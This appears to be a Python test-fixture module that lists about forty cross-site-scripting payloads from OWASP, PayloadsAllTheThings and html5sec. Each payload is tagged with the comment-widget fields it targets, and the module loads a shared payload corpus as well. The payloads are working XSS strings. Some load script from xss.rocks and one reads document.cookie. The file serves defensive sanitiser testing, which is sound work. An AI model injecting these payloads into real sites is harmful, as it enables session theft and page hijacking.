"""A table of XSS payloads for the project's own tests (server and widget alike).

About forty entries drawn from public corpora — the OWASP XSS Filter Evasion
Cheat Sheet, PayloadsAllTheThings ("XSS Injection") and html5sec.org — chosen
to cover different tricks: plain script tags, event handlers, URL schemes and
their encodings, SVG/MathML namespace confusion, mutation XSS, broken markup,
Markdown link syntax, and attribute breakouts for plain-text fields.

Each entry names the fields it targets, in the same words as the shared corpus
(``$WIDGET_TEST_SHARED/security/xss_payloads.jsonl``):

- ``body``: the comment text;
- ``author``: the author's name;
- ``website``: the author's website;
- ``uri``: the page URL of the thread.

``payloads()`` gives this table, plus every line of the shared corpus when
``WIDGET_TEST_SHARED`` is set (CI sets it).
"""
from __future__ import annotations

import json
import os
from pathlib import Path
from typing import NamedTuple


class Payload(NamedTuple):
    payload: str
    targets: tuple[str, ...]
    source: str


OWASP = "OWASP XSS Filter Evasion Cheat Sheet"
PATT = "PayloadsAllTheThings, XSS Injection"
H5SC = "html5sec.org"
HTML = ("body", "author", "uri")
URL = ("website", "uri", "body")
ALL = ("body", "author", "website", "uri")

TABLE: tuple[Payload, ...] = (
    # Script tags, plain and disguised
    Payload("<script>alert('XSS')</script>", ALL, OWASP),
    Payload("<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>", HTML, OWASP),
    Payload("<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>", HTML, OWASP),
    Payload("<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>", HTML, OWASP),
    Payload("<scr<script>ipt>alert(1)</scr</script>ipt>", HTML, PATT),
    Payload("</script><script>alert(1)</script>", ALL, PATT),
    # Event handlers
    Payload("<img src=x onerror=alert(1)>", ALL, PATT),
    Payload("<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>", HTML, OWASP),
    Payload("<svg/onload=alert('XSS')>", ALL, PATT),
    Payload("<body onload=alert(1)>", HTML, OWASP),
    Payload("<details open ontoggle=alert(1)>", HTML, PATT),
    Payload("<input autofocus onfocus=alert(1)>", HTML, PATT),
    Payload("<video><source onerror=\"alert(1)\">", HTML, H5SC),
    Payload("<div style=\"width:expression(alert(1))\">x</div>", HTML, OWASP),
    Payload("<marquee onstart=alert(1)>x</marquee>", HTML, PATT),
    Payload("<a onmouseover=\"alert(document.cookie)\">xxs link</a>", HTML, OWASP),
    # URL schemes and their encodings
    Payload("javascript:alert(1)", URL, OWASP),
    Payload("JaVaScRiPt:alert(1)", URL, OWASP),
    Payload("jav&#x09;ascript:alert('XSS');", URL, OWASP),
    Payload("&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)", URL, OWASP),
    Payload(" &#14;  javascript:alert('XSS');", URL, OWASP),
    Payload("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", URL, PATT),
    Payload("vbscript:msgbox(\"XSS\")", URL, OWASP),
    Payload("https://example.org/\"><script>alert(1)</script>", URL, PATT),
    Payload("https://example.org/' onmouseover='alert(1)", URL, PATT),
    # Links written the Markdown way
    Payload("[click me](javascript:alert(1))", ("body",), PATT),
    Payload("[a](javascript&#58;alert(1))", ("body",), PATT),
    Payload("![x](x\" onerror=\"alert(1))", ("body",), PATT),
    Payload("<https://example.org/\"onmouseover=\"alert(1)>", ("body",), PATT),
    # Namespace confusion and mutation XSS
    Payload("<svg><script>alert(1)</script></svg>", HTML, H5SC),
    Payload("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", HTML, PATT),
    Payload("<svg><style><img src=x onerror=alert(1)></style></svg>", HTML, H5SC),
    Payload("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", HTML, PATT),
    Payload("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", HTML, H5SC),
    Payload("<object data=\"javascript:alert(1)\"></object>", HTML, H5SC),
    Payload("<form><button formaction=javascript:alert(1)>x</button></form>", HTML, H5SC),
    Payload("<a href=\"&#1;javascript:alert(1)\">x</a>", HTML, H5SC),
    Payload("<isindex type=image src=1 onerror=alert(1)>", HTML, H5SC),
    # Attribute breakouts and polyglots for plain-text fields
    Payload("\"><img src=x onerror=alert(1)>", ALL, PATT),
    Payload("'-alert(1)-'", ALL, PATT),
    Payload("javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
            ALL, OWASP),
    Payload("{{constructor.constructor('alert(1)')()}}", ALL, PATT),
)


def load_shared(root: str | os.PathLike | None = None) -> list[Payload]:
    """Every payload of the shared corpus, or [] when ``WIDGET_TEST_SHARED`` is not set."""
    root = root or os.environ.get("WIDGET_TEST_SHARED")
    if not root:
        return []
    path = Path(root) / "security" / "xss_payloads.jsonl"
    entries = []
    for line in path.read_text("utf-8").split("\n"):  # not splitlines(): payloads hold U+2028 and kin
        if line.strip():
            item = json.loads(line)
            entries.append(Payload(item["payload"], tuple(item["targets"]), item.get("source", "")))
    return entries


def payloads() -> list[Payload]:
    """This table, then the shared corpus when CI provides it."""
    return [*TABLE, *load_shared()]
